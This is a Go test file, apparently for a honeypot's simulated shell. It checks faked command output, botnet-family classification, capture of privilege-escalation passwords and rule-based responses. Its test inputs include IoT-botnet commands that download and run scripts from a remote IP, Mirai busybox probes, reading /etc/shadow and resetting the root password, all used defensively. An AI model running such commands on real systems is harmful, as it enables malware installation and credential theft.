@@ -0,0 +1,365 @@
+package shell
+
+import (
+	"debug/elf"
+	"encoding/binary"
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestRunSimulator(t *testing.T) {
+	sh := New("web01", "root", map[string]string{
+		"pwd":    "/home/user",
+		"ps -ef": "UID PID\n",
+	})
+
+	if res := sh.Run("pwd"); res.Stdout != "/home/user\n" || res.ExitCode != 0 {
+		t.Errorf("pwd: unexpected result %+v", res)
+	}
+	if res := sh.Run("ps -ef; whoami"); res.Stdout != "UID PID\nroot\n" {
+		t.Errorf("command list: unexpected stdout %q", res.Stdout)
+	}
+}
+
+func TestRunNotFound(t *testing.T) {
+	sh := New("web01", "root", nil)
+
+	res := sh.Run("wget http://1.2.3.4/x.sh")
+	if res.ExitCode != 127 || res.Stdout != "" {
+		t.Errorf("expected exit code 127 and empty stdout, got %+v", res)
+	}
+	if res.Stderr != "bash: line 1: wget: command not found\n" {
+		t.Errorf("unexpected exec stderr %q", res.Stderr)
+	}
+
+	sh.Interactive = true
+	if res := sh.Run("wget"); res.Stderr != "-bash: wget: command not found\n" {
+		t.Errorf("unexpected interactive stderr %q", res.Stderr)
+	}
+}
+
+func TestRunOperators(t *testing.T) {
+	sh := New("web01", "admin", nil)
+
+	if res := sh.Run("false && echo a || echo b"); res.Stdout != "b\n" || res.ExitCode != 0 {
+		t.Errorf("unexpected result %+v", res)
+	}
+	if res := sh.Run("echo 'a;b' \"c && d\""); res.Stdout != "a;b c && d\n" {
+		t.Errorf("quoted separators: unexpected stdout %q", res.Stdout)
+	}
+	if res := sh.Run("exit 3"); !res.Exit || res.ExitCode != 3 {
+		t.Errorf("exit: unexpected result %+v", res)
+	}
+}
+
+func TestRunEnv(t *testing.T) {
+	sh := New("web01", "admin", nil)
+	sh.Env["LANG"] = "C"
+
+	if res := sh.Run("echo $LANG ${USER}"); res.Stdout != "C admin\n" {
+		t.Errorf("unexpected stdout %q", res.Stdout)
+	}
+	sh.Run("cd /tmp/../var")
+	if res := sh.Run("pwd"); res.Stdout != "/var\n" {
+		t.Errorf("cd: unexpected stdout %q", res.Stdout)
+	}
+	if p := sh.Prompt(); p != "admin@web01:/var$ " {
+		t.Errorf("unexpected prompt %q", p)
+	}
+	// 只有家目录及其子目录显示为 ~
+	for cwd, want := range map[string]string{"/home/admin": "~", "/home/admin/.ssh": "~/.ssh", "/home/adminfoo": "/home/adminfoo"} {
+		sh.Cwd = cwd
+		if p := sh.Prompt(); p != "admin@web01:"+want+"$ " {
+			t.Errorf("%s: unexpected prompt %q", cwd, p)
+		}
+	}
+}
+
+func TestBusyboxProbe(t *testing.T) {
+	arch, ok := LookupArch("arm7")
+	if !ok {
+		t.Fatal("arch arm7 not found")
+	}
+	sh := New("(none)", "root", nil)
+	sh.SetArch(arch)
+	sh.Interactive = true
+
+	for _, cmd := range []string{"enable", "system", "shell"} {
+		if res := sh.Run(cmd); res.Stderr != "-sh: "+cmd+": not found\n" {
+			t.Errorf("%s: unexpected stderr %q", cmd, res.Stderr)
+		}
+	}
+	if res := sh.Run("sh"); res.Stdout != "" || res.Stderr != "" {
+		t.Errorf("sh: unexpected result %+v", res)
+	}
+	res := sh.Run("/bin/busybox ECCHI")
+	if res.Stderr != "ECCHI: applet not found\n" || res.ExitCode != 127 {
+		t.Errorf("unexpected applet probe result %+v", res)
+	}
+	if sh.BotFamily != "mirai" {
+		t.Errorf("unexpected bot family %q", sh.BotFamily)
+	}
+	if res := sh.Run("cat /proc/cpuinfo"); !strings.Contains(res.Stdout, "ARMv7 Processor") {
+		t.Errorf("unexpected cpuinfo %q", res.Stdout)
+	}
+	if res := sh.Run("uname -m"); res.Stdout != "armv7l\n" {
+		t.Errorf("unexpected machine %q", res.Stdout)
+	}
+	if p := sh.Prompt(); p != "~ # " {
+		t.Errorf("unexpected prompt %q", p)
+	}
+}
+
+func TestBusyboxELF(t *testing.T) {
+	for name, arch := range arches {
+		sh := New("(none)", "root", nil)
+		sh.SetArch(arch)
+		elf := sh.Run("/bin/busybox cat /bin/echo").Stdout
+		f, err := elfFile(elf)
+		if err != nil {
+			t.Errorf("%s: %v", name, err)
+			continue
+		}
+		// 终端会把 \n 转换为 \r\n，文件头中不能出现
+		if strings.Contains(elf, "\n") {
+			t.Errorf("%s: header contains newline", name)
+		}
+		if f != arch.elf.machine {
+			t.Errorf("%s: unexpected machine %d", name, f)
+		}
+	}
+}
+
+func TestRedirect(t *testing.T) {
+	sh := New("web01", "root", nil)
+	sh.Run(`cd /tmp; echo -ne '\x6b\x61' > .t; echo -e 'mi\c' >> /tmp/.t`)
+	if res := sh.Run("cat .t"); res.Stdout != "kami" {
+		t.Errorf("unexpected file content %q", res.Stdout)
+	}
+	if res := sh.Run("rm .t; cat .t 2>&1"); res.Stdout != "cat: .t: No such file or directory\n" {
+		t.Errorf("unexpected result %+v", res)
+	}
+	if res := sh.Run("cat /etc/shadow 2>/dev/null"); res.Stderr != "" || res.ExitCode != 1 {
+		t.Errorf("stderr was not redirected: %+v", res)
+	}
+}
+
+func TestClassify(t *testing.T) {
+	cases := map[string]string{
+		"/bin/busybox ECCHI":                        "mirai",
+		"/bin/busybox OKIRU":                        "okiru",
+		"/bin/busybox QBOTX":                        "mirai-variant",
+		"cd /tmp; wget http://1.2.3.4/bins.sh":      "gafgyt",
+		"wget http://1.2.3.4:8080/Mozi.m -O /tmp/x": "mozi",
+		"uname -a": "",
+	}
+	for line, family := range cases {
+		if got := Classify(line); got != family {
+			t.Errorf("%q: expected %q, got %q", line, family, got)
+		}
+	}
+}
+
+// 解析文件头中的 e_machine
+func elfFile(data string) (uint16, error) {
+	if len(data) < 52 || data[:4] != elf.ELFMAG {
+		return 0, fmt.Errorf("invalid header %q", data)
+	}
+	var order binary.ByteOrder = binary.LittleEndian
+	if elf.Data(data[elf.EI_DATA]) == elf.ELFDATA2MSB {
+		order = binary.BigEndian
+	}
+	size := 52
+	if elf.Class(data[elf.EI_CLASS]) == elf.ELFCLASS64 {
+		size = 64
+	}
+	if len(data) != size {
+		return 0, fmt.Errorf("unexpected header size %d", len(data))
+	}
+	return order.Uint16([]byte(data[18:20])), nil
+}
+
+func TestSudo(t *testing.T) {
+	sh := New("web01", "admin", nil)
+	sh.Interactive = true
+	sh.Privilege = PrivilegeConfig{Attempts: 2}
+
+	res := sh.Run("sudo -i; whoami")
+	if res.Input == nil || res.Input.Prompt != "[sudo] password for admin: " || res.Input.Echo {
+		t.Fatalf("expected password prompt, got %+v", res)
+	}
+	res = sh.Answer("wrong")
+	if res.Stderr != "Sorry, try again.\n" || res.Input == nil {
+		t.Fatalf("expected retry, got %+v", res)
+	}
+	res = sh.Answer("s3cret")
+	if res.Input != nil || res.Stdout != "root\n" {
+		t.Fatalf("unexpected result %+v", res)
+	}
+	if len(res.Escalations) != 1 {
+		t.Fatalf("unexpected escalations %+v", res.Escalations)
+	}
+	esc := res.Escalations[0]
+	if esc.Command != "sudo" || esc.Target != "root" || !esc.Success || !slices.Equal(esc.Passwords, []string{"wrong", "s3cret"}) {
+		t.Errorf("unexpected escalation %+v", esc)
+	}
+	if p := sh.Prompt(); p != "root@web01:~# " {
+		t.Errorf("unexpected prompt %q", p)
+	}
+	if res := sh.Run("exit"); res.Exit || res.Stdout != "logout\n" || sh.Username != "admin" {
+		t.Errorf("exit should return to the previous user, got %+v", res)
+	}
+	// 认证成功后不再询问密码
+	if res := sh.Run("sudo id"); res.Input != nil || !strings.HasPrefix(res.Stdout, "uid=0(root)") {
+		t.Errorf("unexpected result %+v", res)
+	}
+}
+
+func TestPrivilegeWithoutTerminal(t *testing.T) {
+	sh := New("web01", "admin", nil)
+	sh.Privilege = PrivilegeConfig{Mode: "reject"}
+
+	if res := sh.Run("su -"); res.Stderr != "su: must be run from a terminal\n" || res.ExitCode != 1 {
+		t.Errorf("unexpected result %+v", res)
+	}
+	res := sh.Run("echo hunter2 | sudo -S id")
+	if res.Stderr != "[sudo] password for admin: Sorry, try again.\nsudo: 1 incorrect password attempt\n" {
+		t.Errorf("unexpected stderr %q", res.Stderr)
+	}
+	if len(res.Escalations) != 1 || res.Escalations[0].Success || res.Escalations[0].Passwords[0] != "hunter2" {
+		t.Errorf("unexpected escalations %+v", res.Escalations)
+	}
+	res = sh.Run("echo root:toor | chpasswd")
+	if res.ExitCode != 1 || len(res.Escalations) != 1 || res.Escalations[0].Target != "root" || res.Escalations[0].Passwords[0] != "toor" {
+		t.Errorf("unexpected result %+v", res)
+	}
+}
+
+func TestPasswd(t *testing.T) {
+	sh := New("web01", "root", nil)
+	sh.Interactive = true
+
+	res := sh.Run("passwd")
+	if res.Input == nil || res.Input.Prompt != "New password: " {
+		t.Fatalf("unexpected result %+v", res)
+	}
+	res = sh.Answer("a")
+	if res.Input == nil || res.Input.Prompt != "Retype new password: " {
+		t.Fatalf("unexpected result %+v", res)
+	}
+	res = sh.Answer("b")
+	if res.ExitCode != 10 || !strings.HasPrefix(res.Stderr, "Sorry, passwords do not match.\n") {
+		t.Errorf("unexpected result %+v", res)
+	}
+	if len(res.Escalations) != 1 || res.Escalations[0].Success {
+		t.Errorf("unexpected escalations %+v", res.Escalations)
+	}
+}
+
+func TestRenderTemplate(t *testing.T) {
+	ps := `{{.Username}} {{pid "sshd"}} {{randInt 100 100000}} {{.SrcIP}} {{.Cwd}}`
+	sh := New("web01", "root", map[string]string{"ps": ps})
+	sh.SessionID, sh.SrcIP = "c0ffee", "10.1.2.3"
+
+	first := sh.Run("ps").Stdout
+	if !strings.HasPrefix(first, "root ") || !strings.HasSuffix(first, " 10.1.2.3 /root\n") {
+		t.Errorf("unexpected output %q", first)
+	}
+	if again := sh.Run("ps").Stdout; again != first {
+		t.Errorf("random values changed within the session: %q %q", first, again)
+	}
+	other := New("web01", "root", map[string]string{"ps": ps})
+	other.SessionID, other.SrcIP = "decaf", "10.1.2.3"
+	if other.Run("ps").Stdout == first {
+		t.Errorf("different sessions produced the same random values")
+	}
+	// 开机时间只与主机有关
+	if boot := other.random().boot; !boot.Equal(sh.random().boot) || !boot.Before(time.Now().Add(-time.Hour)) {
+		t.Errorf("boot time differs between sessions: %v %v", boot, sh.random().boot)
+	}
+	if New("db01", "root", nil).random().boot.Equal(sh.random().boot) {
+		t.Error("different hosts share the boot time")
+	}
+	if err := CheckTemplate("{{pid}"); err == nil {
+		t.Error("expected template syntax error")
+	}
+	if err := CheckTemplate(`{{pid "a"}} {{uptime}} {{choice "a" "b"}}`); err != nil {
+		t.Error(err)
+	}
+}
+
+func TestRules(t *testing.T) {
+	rules, err := CompileRules([]Rule{
+		{Match: "regex", Pattern: `^ls(?: -\w+)* (?P<dir>/\S+)$`, Output: "ls: cannot open directory '{{.Named.dir}}': Permission denied"},
+		{Match: "glob", Pattern: "ls -[la]*", Output: "total 0"},
+		{Match: "prefix", Pattern: "uname", Output: "Linux{{index .Groups 1}}", Delay: 0.05},
+		{Pattern: "ls", Output: "Documents"},
+		{Match: "glob", Pattern: "ls*", Output: "unreachable"},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	sh := New("web01", "root", nil)
+	sh.Rules = rules
+
+	cases := map[string]string{
+		"ls -la /etc":        "ls: cannot open directory '/etc': Permission denied\n",
+		"ls  -l":             "total 0\n",
+		"ls; whoami":         "Documents\nroot\n",
+		"uname -a | cat":     "Linux -a\n",
+		"lsblk 2>&1":         "unreachable\n",
+		"echo ls -l":         "ls -l\n",
+		"ls -a > /dev/null ": "",
+	}
+	for cmd, want := range cases {
+		if got := sh.Run(cmd).Stdout; got != want {
+			t.Errorf("%q: expected %q, got %q", cmd, want, got)
+		}
+	}
+
+	start := time.Now()
+	sh.Run("uname")
+	if time.Since(start) < 50*time.Millisecond {
+		t.Error("rule delay was not applied")
+	}
+
+	if _, err := CompileRules([]Rule{{Match: "regex", Pattern: "("}}); err == nil {
+		t.Error("expected invalid regex error")
+	}
+	if _, err := CompileRules([]Rule{{Match: "fuzzy", Pattern: "ls"}}); err == nil {
+		t.Error("expected unknown match type error")
+	}
+}
+
+type fakeResponder map[string]string
+
+func (f fakeResponder) Respond(input, state string) (string, error) {
+	if out, ok := f[input]; ok {
+		return out, nil
+	}
+	return "", fmt.Errorf("no response for %q", input)
+}
+
+func TestResponder(t *testing.T) {
+	sh := New("web01", "root", map[string]string{"ls": "a b"})
+	sh.Interactive = true
+	sh.Responder = fakeResponder{"lscpu -e": "CPU NODE\n0 0", "true": "", "ls": "never"}
+
+	if res := sh.Run("lscpu -e"); res.Stdout != "CPU NODE\n0 0\n" || res.ExitCode != 0 {
+		t.Errorf("lscpu: unexpected result %+v", res)
+	}
+	// 模拟输出与内置命令优先
+	if res := sh.Run("ls; whoami"); res.Stdout != "a b\nroot\n" {
+		t.Errorf("simulator: unexpected stdout %q", res.Stdout)
+	}
+	if res := sh.Run("true"); res.Stdout != "" || res.ExitCode != 0 {
+		t.Errorf("empty output: unexpected result %+v", res)
+	}
+	// 生成失败时返回静态输出
+	if res := sh.Run("nmap"); res.Stderr != "-bash: nmap: command not found\n" || res.ExitCode != 127 {
+		t.Errorf("fallback: unexpected result %+v", res)
+	}
+}